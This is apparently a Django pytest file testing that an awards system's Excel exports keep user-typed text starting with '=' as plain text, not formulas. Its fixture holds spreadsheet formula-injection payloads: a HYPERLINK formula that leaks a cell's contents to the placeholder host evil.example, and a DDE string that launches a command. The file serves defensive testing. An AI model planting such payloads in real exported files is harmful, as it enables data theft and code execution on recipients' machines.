"""Spreadsheet exports carry what units typed: a name or achievement starting with "=" must arrive
as text, never as a formula Excel evaluates when the chairman's office opens the file."""

import datetime as dt
import io

import openpyxl
import pytest
from django.test import Client, TestCase
from django.urls import reverse

from dossiers.models import DossierStatus
from workflows import services
from workflows.walk import Actors, add_nominees, walk

pytestmark = pytest.mark.django_db
EVIL = {"full_name": "=1+2", "position": '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
        "achievement": "=cmd|' /C calc'!A0"}


def _cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_exports_hold_typed_text_as_text(world, in_window):
    w = world
    dossier = services.dossier_create(campaign=w.campaign, award_form=w.form, unit=w.unit, actor=w.alice)
    add_nominees(dossier, w.alice, individuals=[EVIL])
    dossier = walk(dossier, Actors(officer=w.alice, head=w.henry, appraiser=w.bob, home_affairs=w.nora),
                   until=DossierStatus.AWAITING_DECISION)
    with TestCase.captureOnCommitCallbacks(execute=True):
        decision = services.decision_sign(dossiers=[dossier], actor=w.chris, number="7/QĐ-UBND",
                                          outcomes={n.pk: True for n in dossier.nominees.all()},
                                          signed_on=dt.date(2023, 12, 5))
    chris, bob = Client(), Client()
    chris.force_login(w.chris)
    bob.force_login(w.bob)
    for response in (chris.get(reverse("certificates:awardees_xlsx", args=[decision.pk])),
                     bob.get(reverse("criteria:reports_xlsx", args=[w.campaign.pk]))):
        assert response.status_code == 200
        cells = _cells(response.content)
        formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
        assert not formulas, formulas
        assert "=1+2" in {c.value for c in cells}          # still there, as the text that was typed
    awardees = {c.value for c in _cells(chris.get(reverse("certificates:awardees_xlsx",
                                                          args=[decision.pk])).content)}
    assert EVIL["position"] in awardees
